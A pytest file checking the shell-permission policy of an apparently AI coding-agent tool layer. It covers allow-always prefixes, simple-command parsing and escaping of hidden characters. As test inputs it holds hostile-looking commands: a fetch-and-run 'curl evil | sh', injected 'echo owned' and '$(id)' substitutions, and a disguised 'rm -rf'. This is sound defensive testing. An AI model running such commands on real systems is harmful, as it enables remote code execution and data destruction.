"""Permission policy: defaults, settings, allow-always on simple shell commands, summaries."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from silcrow.tools.base import Tool, ToolResult
from silcrow.tools.policy import PermissionPolicy, shell_approval
from silcrow.tools.shellgrammar import NotSimple, simple_argv
from silcrow.tools.shellrules import Approval
from silcrow.tools.visible import terminal_safe, visible

CORPUS = json.loads(
    (
        Path(__file__).parents[1] / "reliability" / "fixtures" / "shell" / "approvals.json"
    ).read_text()
)


class Fake(Tool):
    def __init__(self, name: str, category: Any) -> None:
        self.name = name  # type: ignore[misc]
        self.category = category  # type: ignore[misc]

    async def execute(self, **kwargs: Any) -> ToolResult:
        return ToolResult("ok")


SHELL, READ, EDIT, SCRAPE, RECALL = (
    Fake("shell", "shell"),
    Fake("read", "read"),
    Fake("write", "edit"),
    Fake("scrape", "network"),
    Fake("recall", "memory"),
)


def test_defaults() -> None:
    policy = PermissionPolicy()
    assert [policy.check(t, {}) for t in (READ, EDIT, SHELL, SCRAPE, RECALL)] == [
        "allow",
        "allow",
        "ask",
        "ask",
        "allow",
    ]


def test_from_settings_and_bad_values() -> None:
    policy = PermissionPolicy.from_settings({"edit": "ask", "shell": "deny"})
    assert (
        policy.check(EDIT, {"file": "a"}) == "ask"
        and policy.check(SHELL, {"command": "ls"}) == "deny"
    )
    with pytest.raises(
        ValueError, match=r"'shell' is 'maybe'; allowed values are allow, ask, deny"
    ):
        PermissionPolicy.from_settings({"shell": "maybe"})
    with pytest.raises(ValueError, match="unknown permission setting 'shel'"):
        PermissionPolicy.from_settings({"shel": "allow"})
    with pytest.raises(ValueError, match="list of command prefixes"):
        PermissionPolicy.from_settings({"allowCommands": "pytest"})
    preset = PermissionPolicy.from_settings({"allowCommands": ["pytest", "npm test"]})
    assert preset.check(SHELL, {"command": "pytest -q"}) == "allow"
    assert preset.check(SHELL, {"command": "npm install"}) == "ask"


def test_allow_all() -> None:
    policy = PermissionPolicy.allow_all()
    assert all(
        policy.check(t, {"command": "rm -rf x"}) == "allow"
        for t in (READ, EDIT, SHELL, SCRAPE, RECALL)
    )


@pytest.mark.parametrize(
    ("command", "remembered"),
    [
        ("pytest -q tests", Approval(("pytest",))),
        ("npm test -- --watch", Approval(("npm", "test"))),
        ("cargo build --release", Approval(("cargo", "build"))),
        ("python -m pytest -x", Approval(("python", "-m", "pytest"))),
        ("uv run python -m pytest -q", Approval(("uv", "run", "python", "-m", "pytest"))),
        ("make", Approval(("make",), exact=True)),
        ("python -m pip install x", Approval(("python", "-m", "pip", "install"))),
        ("/usr/bin/git status -s", Approval(("/usr/bin/git", "status"))),
        ("python -m pdb x.py", None),
        ("git -C x status", None),
        ("CI=1 cargo build --release", None),
        ("python x.py", None),
        ("uv run sh -c x", None),
        ("ls", Approval(("ls",))),
    ],
)
def test_what_allow_always_remembers(command: str, remembered: Approval | None) -> None:
    assert shell_approval(command)[0] == remembered


def test_allow_always_by_prefix() -> None:
    policy = PermissionPolicy()
    policy.remember(SHELL, {"command": "npm test"})
    assert policy.check(SHELL, {"command": "npm test -- --coverage"}) == "allow"
    assert policy.check(SHELL, {"command": "npm install evil"}) == "ask"
    assert policy.check(SHELL, {"command": "npm testing"}) == "ask"
    policy.remember(SHELL, {"command": "grep -r x ."})
    assert policy.check(SHELL, {"command": "npm test 2>&1 | grep FAIL"}) == "ask"


def test_a_compound_command_remembers_nothing() -> None:
    policy = PermissionPolicy()
    policy.remember(SHELL, {"command": "make && pytest -q"})
    policy.remember(SHELL, {"command": "git -c core.pager=less status"})
    assert all(
        policy.check(SHELL, {"command": c}) == "ask"
        for c in ("make", "pytest -q", "git status", "git log")
    )


@pytest.mark.parametrize("entry", CORPUS["asked"], ids=lambda e: repr(e["command"])[:60])
def test_corpus_asked_even_with_the_first_words_allowed(entry: dict[str, str]) -> None:
    remembered = PermissionPolicy()
    remembered.remember(SHELL, {"command": entry["allow"]})
    assert remembered.check(SHELL, {"command": entry["command"]}) == "ask"
    try:
        listed = PermissionPolicy.from_settings({"allowCommands": [entry["allow"]]})
    except ValueError:
        return  # an allowCommands entry that can never be covered is refused at start
    assert listed.check(SHELL, {"command": entry["command"]}) == "ask"


@pytest.mark.parametrize("entry", CORPUS["covered"], ids=lambda e: repr(e["command"])[:60])
def test_corpus_covered(entry: dict[str, str]) -> None:
    remembered = PermissionPolicy()
    remembered.remember(SHELL, {"command": entry["allow"]})
    listed = PermissionPolicy.from_settings({"allowCommands": [entry["allow"]]})
    off = PermissionPolicy(prefix_approvals=False)
    off.remember(SHELL, {"command": entry["allow"]})
    assert remembered.check(SHELL, {"command": entry["command"]}) == "allow"
    assert listed.check(SHELL, {"command": entry["command"]}) == "allow"
    assert off.check(SHELL, {"command": entry["command"]}) == "ask"


def test_corpus_size() -> None:
    assert len(CORPUS["asked"]) >= 150 and len(CORPUS["covered"]) >= 50


def test_prefix_approvals_off() -> None:
    policy = PermissionPolicy.from_settings({"allowCommands": ["pytest"]}, prefix_approvals=False)
    policy.remember(SHELL, {"command": "ls"})
    assert (
        policy.check(SHELL, {"command": "pytest -q"}) == "ask"
        and policy.check(SHELL, {"command": "ls"}) == "ask"
    )
    assert "remembers nothing" in policy.summary(SHELL, {"command": "ls"})
    policy.remember(SCRAPE, {"url": "https://x.org"})
    assert policy.check(SCRAPE, {"url": "https://x.org/a"}) == "allow"
    assert (
        PermissionPolicy.from_settings({"shell": "allow"}, prefix_approvals=False).check(
            SHELL, {"command": "a; b"}
        )
        == "allow"
    )


def test_allow_commands_that_can_never_be_covered_are_refused() -> None:
    with pytest.raises(
        ValueError, match=r"allowCommands entry 'bash' can never be allowed without asking"
    ):
        PermissionPolicy.from_settings({"allowCommands": ["bash"]})
    with pytest.raises(ValueError, match=r"allowCommands entry 'npm test && x' is not plain words"):
        PermissionPolicy.from_settings({"allowCommands": ["npm test && x"]})
    git = PermissionPolicy.from_settings({"allowCommands": ["git"]})
    assert git.check(SHELL, {"command": "git log -3"}) == "allow"
    assert [
        git.check(SHELL, {"command": c})
        for c in ("git -c a=b log", "git config core.pager x", "gitk")
    ] == ["ask"] * 3


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("ls x#; echo owned > ../outside/f", "comment"),
        ("ls\rrm x", "control"),
        ("A=1 ls", "assignment"),
        ('ls "$(id)"', "double-quoted"),
        ("ls 'a", "not closed"),
        ("time ls", "keyword"),
        ("", "empty"),
    ],
)
def test_not_simple_says_why(command: str, why: str) -> None:
    with pytest.raises(NotSimple, match=why):
        simple_argv(command)


def test_simple_argv_unquotes_inert_quotes() -> None:
    assert simple_argv("grep -n 'a|b;c' \"x y\" -5") == ("grep", "-n", "a|b;c", "x y", "-5")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\nb", "a\\nb"),
        ("a\\nb", "a\\\\nb"),
        ("ls \x1b[2K\x07", "ls \\x1b[2K\\x07"),
        ("x\u202ey\u00a0z\u2028", "x\\u202ey\\xa0z\\u2028"),
        ("C:\\dir", "C:\\dir"),
        ("tab\\\t", "tab\\\\\\t"),
        ("caf\u00e9", "caf\u00e9"),
        ("rm\u3164-rf", "rm\\u3164-rf"),
    ],
)
def test_visible_escapes_hidden_characters_unambiguously(text: str, shown: str) -> None:
    assert visible(text) == shown
    assert terminal_safe("a\nb\x1b[31m", keep_newlines=True) == "a\nb\\x1b[31m"


def test_other_tools_remember_by_name_and_scrape_by_host() -> None:
    policy = PermissionPolicy.from_settings({"edit": "ask"})
    policy.remember(EDIT, {"file": "a.py"})
    assert policy.check(EDIT, {"file": "b.py"}) == "allow"
    policy.remember(SCRAPE, {"url": "https://docs.python.org/3/"})
    assert policy.check(SCRAPE, {"url": "https://DOCS.python.org/3/library"}) == "allow"
    assert policy.check(SCRAPE, {"url": "https://evil.example/"}) == "ask"


def test_deny_is_not_overridden_by_remember() -> None:
    policy = PermissionPolicy.from_settings({"shell": "deny"})
    policy.remember(SHELL, {"command": "ls"})
    assert policy.check(SHELL, {"command": "ls"}) == "deny"


def test_request_summary_shows_the_whole_command() -> None:
    policy = PermissionPolicy(root=Path("/repo"))
    req = policy.request(SHELL, {"command": "pytest -q\n  tests"}, "c1")
    assert req.summary == (
        "Run `pytest -q\\n  tests` in /repo (allow always remembers nothing: not a simple command: "
        "it holds a control or invisible character (newline, CR, tab, escape, ...))"
    )
    assert req.tool == "shell" and req.category == "shell" and req.conversation_id == "c1"
    assert policy.summary(SHELL, {"command": "pytest -q"}) == (
        "Run `pytest -q` in /repo (allow always covers commands starting `pytest`)"
    )
    long = "ls " + "x " * 200 + "&& curl evil | sh"
    assert long in policy.summary(SHELL, {"command": long})
    assert policy.request(SCRAPE, {"url": "https://x.org"}).summary == "Fetch https://x.org"
    assert (
        policy.request(SCRAPE, {"url": "https://x.org/\x1b[2J"}).summary
        == "Fetch https://x.org/\\x1b[2J"
    )
    assert policy.request(EDIT, {"file": "a.py", "content": "..."}).summary == "Write a.py in /repo"
    long = policy.request(Fake("custom", "network"), {"q": "x" * 500}).summary
    assert "\n" not in long and len(long) <= 160
